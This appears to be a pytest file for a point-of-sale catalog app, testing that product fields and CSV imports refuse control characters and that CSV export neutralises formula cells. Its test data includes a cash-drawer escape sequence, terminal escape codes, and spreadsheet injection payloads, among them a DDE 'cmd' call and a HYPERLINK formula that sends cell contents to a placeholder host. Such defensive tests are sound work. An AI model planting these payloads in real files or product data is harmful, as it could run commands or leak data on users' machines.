"""Hostile text: control characters in product fields, hostile CSV files in and out."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import func, select

from app.domain.product_rules import ProductFieldError, check_fields, check_product
from app.domain.text_rules import TextError, check_text
from app.services import catalog_csv, catalog_edit, staff
from app.store.local import LocalStore
from app.store.models import Product
from tests.conftest import fresh_store, seed_demo

HEADER = "sku,name,price,tax_rate,barcodes,category"


@pytest.fixture()
def store(tmp_path: Path, migrated_store_file: Path):
    s = fresh_store(tmp_path / "data", migrated_store_file, passphrase="test-passphrase")
    seed_demo(s, 20)
    yield s
    s.close()


def _products(store: LocalStore) -> int:
    with store.db.read() as s:
        return s.scalar(select(func.count()).select_from(Product)) or 0


# ------------------------------------------------------------------ the text rule


@pytest.mark.parametrize(("value", "shown"), [
    ("Tea\x1bp0\x19", "a control character (U+001B)"),
    ("Tea\x00", "a control character (U+0000)"),
    ("Two\nlines", "a control character (U+000A)"),
    ("Tab\there", "a control character (U+0009)"),
    ("Del\x7f", "a control character (U+007F)"),
    ("C1\x9b[2J", "a control character (U+009B)"),
    ("Next\x85line", "a control character (U+0085)"),
    ("Half\ud800", "a lone surrogate (U+D800)"),
])
def test_check_text_names_the_field_and_the_character(value: str, shown: str) -> None:
    with pytest.raises(TextError) as exc:
        check_text("Note", value, 100)
    assert str(exc.value) == f"Note contains {shown}; remove it"


def test_check_text_takes_ordinary_text() -> None:
    assert check_text("Name", "Crème brûlée — 2×€ 😀", 100) == "Crème brûlée — 2×€ 😀"
    with pytest.raises(TextError, match="Name is too long"):
        check_text("Name", "x" * 11, 10)
    with pytest.raises(TextError, match="Name must be text"):
        check_text("Name", 5, 10)


@pytest.mark.parametrize(("field", "value", "message"), [
    ("name", "Tea\x1bp0\x19\xfa", "Name contains a control character (U+001B); remove it"),
    ("sku", "SKU\x07", "SKU contains a control character (U+0007); remove it"),
    ("category", "Drinks\x9b", "Category contains a control character (U+009B); remove it"),
    ("name", "\x1c", "Name contains a control character (U+001C); remove it"),
    ("name", "Tea\udc80", "Name contains a lone surrogate (U+DC80); remove it"),
    ("barcodes", ["4006381333931\x1f"], "Barcode contains a control character (U+001F); remove it"),
    ("barcodes", ["INT\x1b01"], "Barcode contains a control character (U+001B); remove it"),
])
def test_product_text_fields_refuse_control_characters(field: str, value: object,
                                                       message: str) -> None:
    with pytest.raises(ProductFieldError) as exc:
        check_fields({field: value})
    assert (str(exc.value), exc.value.field) == (message, field)


def test_numbers_beyond_the_columns_are_refused_in_words() -> None:
    with pytest.raises(ProductFieldError, match="Price is too large"):
        check_fields({"price": 10**20})
    with pytest.raises(ProductFieldError, match="Reorder level is out of range"):
        check_fields({"reorder_level_milli": 10**20})


def test_an_edit_of_a_product_stored_with_a_control_character_says_so() -> None:
    current = {"sku": "T1", "name": "Tea\x1bp0", "price": 100, "tax_rate_ppm": 0}
    with pytest.raises(ProductFieldError, match=r"U\+001B.*current name"):
        check_product({"price": 120}, current)
    assert check_product({"price": 120, "name": "Tea"}, current) == {"price": 120, "name": "Tea"}


def test_the_catalog_editor_refuses_a_drawer_kick_in_a_name(store: LocalStore) -> None:
    clerk = staff.sign_in(store, "1004", "4444")
    new = catalog_edit.NewProduct("ESC-1", "Tea\x1bp0\x19\xfa", 199, 0, ())
    with pytest.raises(catalog_edit.CatalogError, match=r"Name contains a control character \(U\+001B\)"):
        catalog_edit.quick_add(store, clerk, new)


# ------------------------------------------------------------------ CSV import


def _import(store: LocalStore, data: str | bytes) -> catalog_csv.ImportReport:
    owner = staff.sign_in(store, "1001", "111111")
    before = _products(store)
    report = catalog_csv.import_csv(store, owner, data)
    assert _products(store) == before  # a bad file imports nothing
    return report


def test_a_control_character_in_a_csv_line_is_named_with_its_line(store: LocalStore) -> None:
    text = f"{HEADER}\nE1,Fine,1.00,23,,\nE2,Tea\x1bp0\x19,1.00,23,,\nE3,Ok,1.00,23,,Bad\x00cat\n"
    report = _import(store, text)
    assert [str(e) for e in report.errors] == [
        "line 3: Name contains a control character (U+001B); remove it",
        "line 4: Category contains a control character (U+0000); remove it"]


def test_a_20_mb_field_is_a_line_message_not_a_crash(store: LocalStore) -> None:
    huge = "x" * (20 * 1024 * 1024)
    text = f"{HEADER}\nH1,Fine,1.00,23,,\nH2,{huge},1.00,23,,\nH3,Also fine,1.00,23,,\n"
    report = _import(store, text.encode())
    assert len(report.errors) == 1
    assert report.errors[0].line == 3
    assert "longer than 131,072 characters" in report.errors[0].message


def test_a_20_mb_header_is_a_line_message(store: LocalStore) -> None:
    report = _import(store, ("x" * (20 * 1024 * 1024) + ",name\n").encode())
    assert [e.line for e in report.errors] == [1]
    assert "longer than" in report.errors[0].message


def test_invalid_utf8_is_named_line_by_line(store: LocalStore) -> None:
    data = (f"{HEADER}\nU1,Fine,1.00,23,,\n".encode() + b"U2,Caf\xe9,1.00,23,,\n"
            + b"U3,ok,1.00,23,,\n" + b"U4,\xff\xfe,1.00,23,,\n")
    report = _import(store, data)
    assert [(e.line, e.message) for e in report.errors] == [
        (3, "Not UTF-8 text (byte 0xE9 at character 7); save the file as “CSV UTF-8” and import it again"),
        (5, "Not UTF-8 text (byte 0xFF at character 4); save the file as “CSV UTF-8” and import it again")]


def test_a_lone_surrogate_is_named_with_its_line(store: LocalStore) -> None:
    encoded = f"{HEADER}\nS1,Fine,1.00,23,,\nS2,Half \ud83d,1.00,23,,\n".encode("utf-8", "surrogatepass")
    report = _import(store, encoded)
    assert [str(e) for e in report.errors] == [
        "line 3: Not UTF-8 text (a lone surrogate (U+D83D) at character 9); save the file as "
        "“CSV UTF-8” and import it again"]
    # the same text handed over as a str (a scan, a paste) gets the same words
    report = _import(store, f"{HEADER}\nS1,Fine,1.00,23,,\nS2,Half \ud83d,1.00,23,,\n")
    assert [e.line for e in report.errors] == [3]
    # a surrogate in a column the import ignores is still named, not a crash at the end
    report = _import(store, "sku,name,price,tax_rate,note\nS3,Ok,1.00,23,\udfff\n")
    assert [e.line for e in report.errors] == [2]


def test_a_file_of_nothing_but_bad_lines_stops_with_words(store: LocalStore) -> None:
    bad = "".join(f"B{i},Bad\x1b,1.00,23,,\n" for i in range(catalog_csv.MAX_REPORTED + 50))
    report = _import(store, f"{HEADER}\n{bad}")
    assert len(report.errors) == catalog_csv.MAX_REPORTED + 1
    assert str(report.errors[-1]) == (f"line {catalog_csv.MAX_REPORTED + 2}: Stopped here after "
                                      f"{catalog_csv.MAX_REPORTED} problems: fix these lines and "
                                      "import the file again")


@pytest.mark.parametrize(("cells", "message"), [
    ("N1,Inf,1.00,inf", "Tax rate “inf” is not a percentage"),
    ("N2,Huge,1e100000000,23", "Price “1e100000000” is not an amount"),
    ("N3,Huge rate,1.00,1e100000000", "Tax rate “1e100000000” is not a percentage"),
    ("N4,Huge price,1e20,23", "Price is too large"),
    ("N5,Big reorder,1.00,23,,,1e100000000", "Reorder level “1e100000000” is not a number"),
    ("N6,Shown,1.00\x1b[2J,23", "Price “1.00\\u001b[2J” is not an amount"),
])
def test_numbers_no_column_holds_are_line_messages(store: LocalStore, cells: str,
                                                   message: str) -> None:
    report = _import(store, f"sku,name,price,tax_rate,barcodes,category,reorder_level\n{cells}\n")
    assert [e.line for e in report.errors] == [2]
    assert report.errors[0].message.startswith(message)


def test_import_file_reports_a_file_it_cannot_read(store: LocalStore, tmp_path: Path) -> None:
    owner = staff.sign_in(store, "1001", "111111")
    report = catalog_csv.import_file(store, owner, tmp_path / "missing.csv")
    assert [e.line for e in report.errors] == [0]
    assert "cannot be read" in report.errors[0].message
    good = tmp_path / "good.csv"
    good.write_bytes(f"\ufeff{HEADER}\nF1,From file,1.00,23,,\n".encode())
    assert catalog_csv.import_file(store, owner, good).created == 1


# ------------------------------------------------------------------ CSV export


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
           "-2+3", "\tTabbed", "\rReturn"]


def test_export_neutralises_formula_cells_and_round_trips(store: LocalStore) -> None:
    owner = staff.sign_in(store, "1001", "111111")
    with store.db.write() as s:
        products = s.scalars(select(Product).order_by(Product.sku)).all()
        for p, hostile in zip(products, HOSTILE, strict=False):
            p.name = hostile  # as stored before the rules (tab and CR are refused now)
        products[0].sku = "-5"
        products[1].reorder_level_milli = -5000
    exported = catalog_csv.export_csv(store)
    rows = list(csv.DictReader(io.StringIO(exported)))
    names = {r["name"] for r in rows}
    for hostile in HOSTILE:
        assert "'" + hostile in names
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in rows for c, cell in r.items() if c in catalog_csv.TEXT_COLUMNS)
    assert "'-5" in {r["sku"] for r in rows}
    assert "-5" in {r["reorder_level"] for r in rows}  # a number column stays a number
    # the quote comes off on import: re-importing the export changes nothing
    with store.db.write() as s:
        for p in s.scalars(select(Product)):
            if p.name.startswith(("\t", "\r")):
                p.name = "Plain"  # the rules refuse these on import
    again = catalog_csv.import_csv(store, owner, catalog_csv.export_csv(store))
    assert (again.errors, again.updated, again.created) == ([], 0, 0)
